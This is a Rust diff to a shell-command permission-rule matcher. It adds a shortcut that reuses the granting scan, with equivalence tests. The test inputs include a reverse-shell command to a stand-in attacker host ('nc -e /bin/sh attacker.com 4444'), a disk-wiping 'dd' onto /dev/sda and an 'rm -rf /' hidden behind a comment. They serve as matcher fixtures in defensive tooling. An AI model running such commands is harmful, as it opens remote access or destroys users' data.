@@ -102,22 +102,38 @@ pub(crate) struct Restrictive {
     norms: Vec<(String, String)>,
 }
 
-/// `shell::normalize(text)`, computed once per text while building.
-fn memo_normalize(norms: &mut Vec<(String, String)>, text: &str) -> String {
-    if let Some((_, n)) = norms.iter().find(|(t, _)| t == text) {
-        return n.clone();
+/// `shell::normalize(text)`, computed once per text while building; `None` when it
+/// is `text` itself because `text` is a plain command already joined with single
+/// spaces (see [`shell::plain_words`]), which needs neither work nor memory.
+fn memo_normalize<'n>(norms: &'n mut Vec<(String, String)>, text: &str) -> Option<&'n str> {
+    if is_own_normalization(text) {
+        return None;
     }
-    let n = shell::normalize(text);
-    norms.push((text.to_string(), n.clone()));
-    n
+    let i = match norms.iter().position(|(t, _)| t == text) {
+        Some(i) => i,
+        None => {
+            norms.push((text.to_string(), shell::normalize(text)));
+            norms.len() - 1
+        }
+    };
+    norms.get(i).map(|(_, n)| n.as_str())
 }
 
-/// The lower-cased text, and its lower-cased normalization (`norm` computes it) when
-/// the text has a quote or backslash.
-fn lower_pair(text: &str, norm: impl FnOnce() -> String) -> (String, Option<String>) {
+/// Whether `text` is plain and already joined with single spaces, so that
+/// `shell::normalize(text) == text`.
+fn is_own_normalization(text: &str) -> bool {
+    shell::plain_words(text)
+        && !text.starts_with(' ')
+        && !text.ends_with(' ')
+        && !text.contains("  ")
+}
+
+/// The lower-cased text, and its lower-cased normalization (`norm` computes it;
+/// `None` stands for the text itself) when the text has a quote or backslash.
+fn lower_pair(text: &str, norm: impl FnOnce() -> Option<String>) -> (String, Option<String>) {
     let norm = text
         .contains(['\'', '"', '\\'])
-        .then(|| norm().to_lowercase());
+        .then(|| norm().map_or_else(|| text.to_lowercase(), |n| n.to_lowercase()));
     (text.to_lowercase(), norm)
 }
 
@@ -137,7 +153,7 @@ impl Restrictive {
         let (raw_lower, norm_lower) = if raw.len() > shell::MAX_COMMAND {
             (String::new(), None)
         } else {
-            lower_pair(raw, || memo_normalize(&mut norms, raw))
+            lower_pair(raw, || memo_normalize(&mut norms, raw).map(str::to_string))
         };
         let mut r = Restrictive {
             raw_lower,
@@ -155,19 +171,20 @@ impl Restrictive {
         // The analysis already normalized the raw command (when normalization is
         // empty it holds the raw command, which yields the same candidate).
         let raw_group = r.add_with_variants(raw, Some(&analysis.normalized));
-        let mut groups = Vec::with_capacity(analysis.components.len());
-        for c in &analysis.components {
-            // A component equal to the raw command has the same candidates and
-            // variants (both are functions of the text alone).
-            if c == raw {
-                groups.push(raw_group.clone());
-            } else {
-                groups.push(r.add_with_variants(c, None));
-            }
-        }
         if analysis.composite {
+            let mut groups = Vec::with_capacity(analysis.components.len());
+            for c in &analysis.components {
+                // A component equal to the raw command has the same candidates and
+                // variants (both are functions of the text alone).
+                if c == raw {
+                    groups.push(raw_group.clone());
+                } else {
+                    groups.push(r.add_with_variants(c, None));
+                }
+            }
             for (c, group) in analysis.components.iter().zip(groups) {
-                let (lower, norm_lower) = lower_pair(c, || memo_normalize(&mut r.norms, c));
+                let (lower, norm_lower) =
+                    lower_pair(c, || memo_normalize(&mut r.norms, c).map(str::to_string));
                 r.units.push(Unit {
                     text: c.clone(),
                     lower,
@@ -176,10 +193,16 @@ impl Restrictive {
                 });
             }
         } else {
+            // One unit with every candidate, in the order they were added.
             let mut all = raw_group;
-            for i in groups.into_iter().flatten() {
-                if !all.contains(&i) {
-                    all.push(i);
+            for c in &analysis.components {
+                if c == raw {
+                    continue; // the raw command's own candidates, already in `all`
+                }
+                for i in r.add_with_variants(c, None) {
+                    if !all.contains(&i) {
+                        all.push(i);
+                    }
                 }
             }
             r.units.push(Unit {
@@ -190,6 +213,51 @@ impl Restrictive {
             });
         }
         r
+    }
+
+    /// What [`Restrictive::build`] gives for a command of [`same_readings`]: the raw
+    /// command and its only component (when it differs), with no variant or alias,
+    /// in one unit.
+    fn simple(raw: &str, a: &Analysis, same: &SameReadings) -> Restrictive {
+        let raw_lower = raw.to_lowercase();
+        let norm_lower = raw
+            .contains(['\'', '"', '\\'])
+            .then(|| a.normalized.to_lowercase());
+        let grams = Bigrams::of(std::iter::once(raw_lower.as_str()).chain(norm_lower.as_deref()));
+        let mut candidates = vec![Candidate {
+            text: raw.to_string(),
+            normalized: (!a.normalized.is_empty() && a.normalized != raw)
+                .then(|| a.normalized.clone()),
+            canonical: Canonical::default(),
+            semantic: Vec::new(),
+            foreign: Vec::new(),
+        }];
+        let mut all = vec![0];
+        if let Some(c) = a.components.first().filter(|c| *c != raw) {
+            candidates.push(Candidate {
+                text: c.clone(),
+                normalized: same.component_norm.clone(),
+                canonical: Canonical::default(),
+                semantic: Vec::new(),
+                foreign: Vec::new(),
+            });
+            all.push(1);
+        }
+        let units = vec![Unit {
+            text: raw.to_string(),
+            lower: raw_lower.clone(),
+            norm_lower: norm_lower.clone(),
+            candidates: all,
+        }];
+        Restrictive {
+            raw_lower,
+            norm_lower,
+            candidates,
+            units,
+            grams,
+            index: HashMap::new(),
+            norms: Vec::new(),
+        }
     }
 
     /// Add `text` and its body variants; returns their indices.
@@ -221,18 +289,76 @@ impl Restrictive {
             }
             self.index.insert(text.to_string(), self.candidates.len());
         }
-        let computed;
         let norm = match normalized {
             Some(n) => n,
-            None => {
-                computed = memo_normalize(&mut self.norms, text);
-                computed.as_str()
-            }
+            None => memo_normalize(&mut self.norms, text).unwrap_or(text),
         };
         let i = self.candidates.len();
         self.candidates.push(Candidate::new(text.to_string(), norm));
         i
     }
+}
+
+/// What [`same_readings`] learnt about a command whose restrictive readings are its
+/// granting ones: its component's normalization, when that is a reading of its own
+/// (it differs from the component and is not empty).
+#[derive(Debug)]
+struct SameReadings {
+    component_norm: Option<String>,
+}
+
+/// Whether the alias gates rule out every body variant and every canonical, semantic
+/// and foreign reading of candidate `text`, whose normalization is `norm`.
+fn no_alias_possible(text: &str, norm: &str) -> bool {
+    !aliases::may_have_alias(text, norm)
+}
+
+/// `Some` when every text the restrictive scan reads ([`Restrictive`]: each reading
+/// of each candidate, and the lower-cased texts) equals, up to ASCII case, one of the
+/// texts the granting scan reads (`raw`, its normalization, its components), and
+/// conversely, so that both scans give the same slots; then [`Restrictive::simple`]
+/// builds the same candidates as [`Restrictive::build`] without re-deriving them.
+/// Holds for an ASCII command with one component, no `#`, and neither body variant
+/// nor alias for it or its component (the cheap gates of [`aliases`] rule them out),
+/// which is most everyday commands.
+fn same_readings(raw: &str, a: &Analysis) -> Option<SameReadings> {
+    if raw.len() > shell::MAX_COMMAND
+        || !raw.is_ascii()
+        || a.opaque.is_some()
+        || a.composite
+        || !a.normalized.is_ascii()
+    {
+        return None;
+    }
+    let [c] = a.components.as_slice() else {
+        return None;
+    };
+    // `Restrictive` lower-cases `normalize(raw)` for a raw command with a quote or
+    // backslash; the analysis holds that normalization when it differs from `raw`.
+    if raw.contains(['\'', '"', '\\']) && a.normalized == raw {
+        return None;
+    }
+    if !no_alias_possible(raw, &a.normalized) {
+        return None;
+    }
+    if c == raw {
+        return Some(SameReadings {
+            component_norm: None,
+        });
+    }
+    if !c.is_ascii() {
+        return None;
+    }
+    if is_own_normalization(c) {
+        return no_alias_possible(c, c).then_some(SameReadings {
+            component_norm: None,
+        });
+    }
+    let n = shell::normalize(c);
+    let known = n.is_empty() || n == *c || n == raw || n == a.normalized;
+    (known && no_alias_possible(c, &n)).then(|| SameReadings {
+        component_norm: (!n.is_empty() && n != *c).then_some(n),
+    })
 }
 
 /// A command prepared for matching; analysis is computed at most once per call and
@@ -246,6 +372,9 @@ pub struct CommandView<'a> {
     prefilter: Option<&'a Prefilter>,
     granting_slots: OnceCell<Slots>,
     restrictive_slots: OnceCell<Slots>,
+    /// Whether the restrictive readings are the granting ones (see
+    /// [`same_readings`]), so that one scan serves both.
+    same_readings: OnceCell<Option<SameReadings>>,
 }
 
 impl<'a> CommandView<'a> {
@@ -259,6 +388,7 @@ impl<'a> CommandView<'a> {
             prefilter: None,
             granting_slots: OnceCell::new(),
             restrictive_slots: OnceCell::new(),
+            same_readings: OnceCell::new(),
         }
     }
     /// Prepare a raw command string for the rules of the engine that built
@@ -305,6 +435,15 @@ impl<'a> CommandView<'a> {
     /// candidate, and the lower-cased texts `command_contains` looks at (a
     /// canonical-alias overflow lets every rule match).
     pub(crate) fn restrictive_slots(&self) -> &Slots {
+        // When every restrictive reading is a granting one (up to ASCII case, which
+        // the automaton ignores), both scans read the same texts: scan the few
+        // granting ones instead of building the candidates.
+        if self.restrictive_slots.get().is_none()
+            && self.prefilter.is_some()
+            && self.same_readings().is_some()
+        {
+            return self.granting_slots();
+        }
         self.restrictive_slots.get_or_init(|| {
             let r = self.restrictive();
             match self.prefilter {
@@ -327,6 +466,13 @@ impl<'a> CommandView<'a> {
                 _ => Slots::default(),
             }
         })
+    }
+    /// Whether the restrictive readings are exactly the granting ones (see
+    /// [`same_readings`]), computed once.
+    fn same_readings(&self) -> Option<&SameReadings> {
+        self.same_readings
+            .get_or_init(|| same_readings(self.raw, self.analysis()))
+            .as_ref()
     }
     /// The raw command.
     pub fn raw(&self) -> &'a str {
@@ -371,7 +517,130 @@ impl<'a> CommandView<'a> {
         )
     }
     pub(crate) fn restrictive(&self) -> &Restrictive {
-        self.restrictive
-            .get_or_init(|| Restrictive::build(self.raw, self.analysis()))
+        self.restrictive.get_or_init(|| match self.same_readings() {
+            Some(same) => Restrictive::simple(self.raw, self.analysis(), same),
+            None => Restrictive::build(self.raw, self.analysis()),
+        })
     }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Every text the restrictive scan reads, ASCII-lower-cased, sorted, deduplicated.
+    fn restrictive_texts(r: &Restrictive) -> Vec<String> {
+        let mut out: Vec<String> = r
+            .candidates
+            .iter()
+            .flat_map(Candidate::readings)
+            .chain(
+                [Some(r.raw_lower.as_str()), r.norm_lower.as_deref()]
+                    .into_iter()
+                    .flatten(),
+            )
+            .chain(
+                r.units
+                    .iter()
+                    .flat_map(|u| [Some(u.lower.as_str()), u.norm_lower.as_deref()])
+                    .flatten(),
+            )
+            .map(|t| t.replace('\\', "/").to_ascii_lowercase())
+            .collect();
+        out.sort();
+        out.dedup();
+        out
+    }
+
+    /// The texts the granting scan reads, the same way.
+    fn granting_texts(raw: &str, a: &Analysis) -> Vec<String> {
+        let mut out: Vec<String> = [raw, a.normalized.as_str()]
+            .into_iter()
+            .chain(a.components.iter().map(String::as_str))
+            .map(|t| t.replace('\\', "/").to_ascii_lowercase())
+            .collect();
+        out.sort();
+        out.dedup();
+        out
+    }
+
+    /// `Some(..)` from [`same_readings`] must mean: [`Restrictive::simple`] builds what
+    /// [`Restrictive::build`] builds, and the restrictive scan reads the granting
+    /// texts. Returns whether the shortcut applied.
+    fn check(raw: &str) -> bool {
+        let a = shell::analyze(raw);
+        let Some(same) = same_readings(raw, &a) else {
+            return false;
+        };
+        let full = Restrictive::build(raw, &a);
+        let simple = Restrictive::simple(raw, &a, &same);
+        assert_eq!(simple.raw_lower, full.raw_lower, "{raw:?}");
+        assert_eq!(simple.norm_lower, full.norm_lower, "{raw:?}");
+        assert_eq!(
+            format!("{:?}", simple.candidates),
+            format!("{:?}", full.candidates),
+            "{raw:?}"
+        );
+        assert_eq!(
+            format!("{:?}", simple.units),
+            format!("{:?}", full.units),
+            "{raw:?}"
+        );
+        assert_eq!(
+            format!("{:?}", simple.grams),
+            format!("{:?}", full.grams),
+            "{raw:?}"
+        );
+        assert_eq!(restrictive_texts(&full), granting_texts(raw, &a), "{raw:?}");
+        true
+    }
+
+    #[test]
+    fn the_shortcut_builds_the_full_candidates_on_the_case_corpus() {
+        let cases = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/spec/cases.jsonl");
+        let text = std::fs::read_to_string(cases).expect("cases.jsonl is readable");
+        let mut applied = 0;
+        let commands = text
+            .lines()
+            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+            .filter_map(|c| c["params"]["command"].as_str().map(str::to_string))
+            .chain(
+                [
+                    "git status",
+                    "git  status ",
+                    "grep -rn 'TODO' src/",
+                    "git commit -m 'fix:  two  spaces'",
+                    "echo \"it's\" done",
+                    "dd if=/dev/zero of=/dev/sda",
+                    "nc -e /bin/sh attacker.com 4444",
+                    "echo hello > /tmp/out.txt",
+                    "then ls",
+                    "ls done",
+                    "(ls)",
+                    "ls # rm -rf /",
+                    "/bin/ls -la",
+                    "Git Status",
+                    "x\\y z",
+                    "'ls' -la",
+                    "cmd /c dir",
+                ]
+                .map(str::to_string),
+            );
+        for c in commands {
+            applied += usize::from(check(&c));
+        }
+        assert!(applied > 20, "the shortcut applied to {applied} commands");
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4000))]
+
+        #[test]
+        fn the_shortcut_builds_the_full_candidates(c in SOUP) {
+            check(&c);
+        }
+    }
+
+    /// Words and syntax around what the alias gates and normalization look at.
+    const SOUP: &str = "((git|ls|rm|RM|find|sudo|env|bash|sh|cmd|pwsh|busybox|if|then|do|done|fi|case|esac|x\\)|echo|cat|a=b|-rf|-delete|/|\\\\|'|\"|<<<|>|\\||&&|;|#|\\(|\\{|\\}|\\$\\(|`|\\^| |  |\t|\\.|~|K|\u{212a}|tmp){0,10})";
 }
